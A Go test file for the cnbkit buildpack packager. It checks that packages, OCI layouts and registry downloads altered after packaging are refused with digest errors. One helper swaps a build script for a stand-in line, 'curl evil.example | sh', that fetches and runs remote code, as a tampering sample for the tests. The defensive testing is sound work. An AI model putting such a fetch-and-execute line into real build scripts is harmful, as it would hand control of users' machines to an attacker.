package packager_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/types"
	. "github.com/onsi/gomega"

	"github.com/cnbkit/cnbkit/internal/registrytest"
	"github.com/cnbkit/cnbkit/packager"
)

// ociFiles is an OCI layout held in memory: index.json and the blobs by hex digest.
type ociFiles struct {
	index v1.IndexManifest
	blobs map[string][]byte
}

func readCNB(t *testing.T, path string) *ociFiles {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	o := &ociFiles{blobs: map[string][]byte{}}
	for _, e := range readTar(t, f, false) {
		switch {
		case strings.HasPrefix(e.hdr.Name, "/blobs/sha256/"):
			o.blobs[strings.TrimPrefix(e.hdr.Name, "/blobs/sha256/")] = e.data
		case e.hdr.Name == "/index.json":
			if err := json.Unmarshal(e.data, &o.index); err != nil {
				t.Fatal(err)
			}
		}
	}
	return o
}

// writeCNB writes o as a .cnb file (blobs in name order, as cnbkit writes them).
func (o *ociFiles) writeCNB(t *testing.T, path string) {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	file := func(name string, data []byte) {
		if err := tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(data))}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	names := make([]string, 0, len(o.blobs))
	for n := range o.blobs {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		file("/blobs/sha256/"+n, o.blobs[n])
	}
	index, err := json.Marshal(o.index)
	if err != nil {
		t.Fatal(err)
	}
	file("/index.json", index)
	file("/oci-layout", []byte(`{"imageLayoutVersion":"1.0.0"}`))
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// put stores data under its true digest and returns its descriptor.
func (o *ociFiles) put(data []byte, mt types.MediaType) v1.Descriptor {
	s := sha256.Sum256(data)
	h := hex.EncodeToString(s[:])
	o.blobs[h] = data
	return v1.Descriptor{MediaType: mt, Size: int64(len(data)), Digest: v1.Hash{Algorithm: "sha256", Hex: h}}
}

func (o *ociFiles) manifest(t *testing.T) v1.Manifest {
	t.Helper()
	var m v1.Manifest
	if err := json.Unmarshal(o.blobs[o.index.Manifests[0].Digest.Hex], &m); err != nil {
		t.Fatal(err)
	}
	return m
}

// repoint stores m under its true digest and points index.json at it.
func (o *ociFiles) repoint(t *testing.T, m v1.Manifest) {
	t.Helper()
	raw, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	d := o.put(raw, o.index.Manifests[0].MediaType)
	d.Platform = o.index.Manifests[0].Platform
	o.index.Manifests[0] = d
}

// alteredLayer returns the layer blob with bin/build replaced, recompressed.
func alteredLayer(t *testing.T, layer []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, e := range readTar(t, bytes.NewReader(layer), true) {
		if strings.HasSuffix(e.hdr.Name, "/bin/build") {
			e.data = []byte("#!/bin/sh\ncurl evil.example | sh\n")
			e.hdr.Size = int64(len(e.data))
		}
		if err := tw.WriteHeader(e.hdr); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(e.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// packagedCNB packages a small bash buildpack as a .cnb in dir.
func packagedCNB(t *testing.T, dir string) string {
	t.Helper()
	out := filepath.Join(dir, "dep.cnb")
	if _, err := (packager.FileSink{Name: out}).Write(ctx(t), builtBash(t, dir, "x/dep", "1.0.0")); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestTamperedPackagesAreRefused is issue 13, point 2: a .cnb altered after it was written
// is refused by Inspect and by Build/WriteFiles (as a composite's dependency) with an error
// naming the file and the blob, and no output is written.
func TestTamperedPackagesAreRefused(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		// tamper alters o and returns what the error must name ("layer sha256:...").
		tamper func(t *testing.T, o *ociFiles) string
	}{
		{"layer altered, manifest re-pointed", func(t *testing.T, o *ociFiles) string {
			m := o.manifest(t)
			old := m.Layers[0].Digest
			altered := alteredLayer(t, o.blobs[old.Hex])
			o.blobs[old.Hex] = altered // under a name that is not its sha256
			m.Layers[0].Size = int64(len(altered))
			o.repoint(t, m)
			return "layer " + old.String()
		}},
		{"layer altered under its own digest, diff ID kept", func(t *testing.T, o *ociFiles) string {
			m := o.manifest(t)
			d := o.put(alteredLayer(t, o.blobs[m.Layers[0].Digest.Hex]), m.Layers[0].MediaType)
			delete(o.blobs, m.Layers[0].Digest.Hex)
			m.Layers[0] = d
			o.repoint(t, m)
			return "layer " + d.Digest.String()
		}},
		{"config altered", func(t *testing.T, o *ociFiles) string {
			m := o.manifest(t)
			cfg := o.blobs[m.Config.Digest.Hex]
			o.blobs[m.Config.Digest.Hex] = bytes.Replace(cfg, []byte(`x/dep`), []byte(`x/dop`), -1)
			return "config " + m.Config.Digest.String()
		}},
		{"manifest altered", func(t *testing.T, o *ociFiles) string {
			d := o.index.Manifests[0].Digest
			o.blobs[d.Hex] = bytes.Replace(o.blobs[d.Hex], []byte(`"schemaVersion":2`), []byte(`"schemaVersion":2,"annotations":{"x":"y"}`), 1)
			return "manifest " + d.String()
		}},
		{"index altered", func(t *testing.T, o *ociFiles) string {
			idx, err := json.Marshal(v1.IndexManifest{SchemaVersion: 2, MediaType: types.OCIImageIndex, Manifests: o.index.Manifests})
			if err != nil {
				t.Fatal(err)
			}
			d := o.put(idx, types.OCIImageIndex)
			o.index.Manifests = []v1.Descriptor{d}
			o.blobs[d.Digest.Hex] = bytes.Replace(idx, []byte(`"schemaVersion":2`), []byte(`"schemaVersion":2 `), 1)
			return "image index " + d.Digest.String()
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			g := NewWithT(t)
			dir := t.TempDir()
			o := readCNB(t, packagedCNB(t, dir))
			blob := tc.tamper(t, o)
			tampered := filepath.Join(dir, "tampered.cnb")
			o.writeCNB(t, tampered)

			_, err := packager.Inspect(ctx(t), tampered, packager.RegistryOptions{})
			var de *packager.DigestError
			g.Expect(errors.As(err, &de)).To(BeTrue(), "Inspect returned %v, want a *packager.DigestError", err)
			g.Expect(err.Error()).To(SatisfyAll(ContainSubstring(tampered+": "+blob+" is not what its digest says"), ContainSubstring("altered or damaged")))

			writeTree(t, filepath.Join(dir, "comp"), map[string]string{
				"buildpack.toml": "api = \"0.10\"\n[buildpack]\nid = \"x/comp\"\nversion = \"1.0.0\"\n[[order]]\n[[order.group]]\nid = \"x/dep\"\nversion = \"1.0.0\"\n",
				"package.toml":   "[buildpack]\nuri = \".\"\n[[dependencies]]\nuri = \"../tampered.cnb\"\n",
			})
			out := filepath.Join(dir, "out", "comp.cnb")
			p, err := packager.Build(ctx(t), packager.Options{Path: filepath.Join(dir, "comp")})
			if err == nil {
				_, err = packager.FileSink{Name: out}.Write(ctx(t), p)
				p.Close()
			}
			g.Expect(errors.As(err, &de)).To(BeTrue(), "packaging returned %v, want a *packager.DigestError", err)
			g.Expect(err.Error()).To(ContainSubstring(tampered + ": " + blob))
			g.Expect(out).NotTo(BeAnExistingFile())
			leftovers, _ := filepath.Glob(filepath.Join(dir, "out", ".*"))
			g.Expect(leftovers).To(BeEmpty())
		})
	}
}

// TestTamperedLayoutIsRefused alters a layer of an OCI layout directory in place.
func TestTamperedLayoutIsRefused(t *testing.T) {
	t.Parallel()
	g := NewWithT(t)
	dir := t.TempDir()
	o := readCNB(t, packagedCNB(t, dir))
	m := o.manifest(t)
	layout := filepath.Join(dir, "layout")
	g.Expect(os.MkdirAll(filepath.Join(layout, "blobs", "sha256"), 0o755)).To(Succeed())
	for h, data := range o.blobs {
		if h == m.Layers[0].Digest.Hex {
			data = append([]byte(nil), data...)
			data[len(data)/2] ^= 0xff // same size, different bytes
		}
		g.Expect(os.WriteFile(filepath.Join(layout, "blobs", "sha256", h), data, 0o644)).To(Succeed())
	}
	index, _ := json.Marshal(o.index)
	g.Expect(os.WriteFile(filepath.Join(layout, "index.json"), index, 0o644)).To(Succeed())
	g.Expect(os.WriteFile(filepath.Join(layout, "oci-layout"), []byte(`{"imageLayoutVersion":"1.0.0"}`), 0o644)).To(Succeed())

	_, err := packager.Inspect(ctx(t), layout, packager.RegistryOptions{})
	g.Expect(err).To(MatchError(ContainSubstring(layout + ": layer " + m.Layers[0].Digest.String() + " is not what its digest says")))
}

// corruptingRegistry serves a registry whose blob downloads have one byte flipped, and
// returns its host:port.
func corruptingRegistry(t *testing.T) string {
	reg := registrytest.Handler()
	return registrytest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodGet || !strings.Contains(r.URL.Path, "/blobs/") {
			reg.ServeHTTP(w, r)
			return
		}
		rec := httptest.NewRecorder()
		reg.ServeHTTP(rec, r)
		body := rec.Body.Bytes()
		if rec.Code == http.StatusOK && len(body) > 0 && !bytes.HasPrefix(body, []byte("{")) {
			body[len(body)/2] ^= 0xff // layers only: configs stay intact
		}
		for k, v := range rec.Header() {
			w.Header()[k] = v
		}
		w.WriteHeader(rec.Code)
		_, _ = io.Copy(w, bytes.NewReader(body))
	}))
}

// TestTamperedRegistryLayerIsRefused packages a composite whose component comes from a
// registry that alters layer bytes in transit.
func TestTamperedRegistryLayerIsRefused(t *testing.T) {
	t.Parallel()
	g := NewWithT(t)
	dir := t.TempDir()
	ref := corruptingRegistry(t) + "/x/dep:1.0.0"
	_, err := one(packager.RegistrySink{Ref: ref, Registry: packager.RegistryOptions{Retry: packager.Retries(0)}}.Write(ctx(t), builtBash(t, dir, "x/dep", "1.0.0")))
	g.Expect(err).NotTo(HaveOccurred())

	writeTree(t, filepath.Join(dir, "comp"), map[string]string{
		"buildpack.toml": "api = \"0.10\"\n[buildpack]\nid = \"x/comp\"\nversion = \"1.0.0\"\n[[order]]\n[[order.group]]\nid = \"x/dep\"\nversion = \"1.0.0\"\n",
		"package.toml":   "[buildpack]\nuri = \".\"\n[[dependencies]]\nuri = \"docker://" + ref + "\"\n",
	})
	p, err := packager.Build(ctx(t), packager.Options{Path: filepath.Join(dir, "comp"), Registry: packager.RegistryOptions{Retry: packager.Retries(0)}})
	g.Expect(err).NotTo(HaveOccurred())
	defer p.Close()
	out := filepath.Join(dir, "comp.cnb")
	_, err = packager.FileSink{Name: out}.Write(ctx(t), p)
	g.Expect(err).To(MatchError(ContainSubstring("sha256")))
	g.Expect(err.Error()).To(Or(ContainSubstring("is not what its digest says"), ContainSubstring("error verifying")))
	g.Expect(out).NotTo(BeAnExistingFile())
}
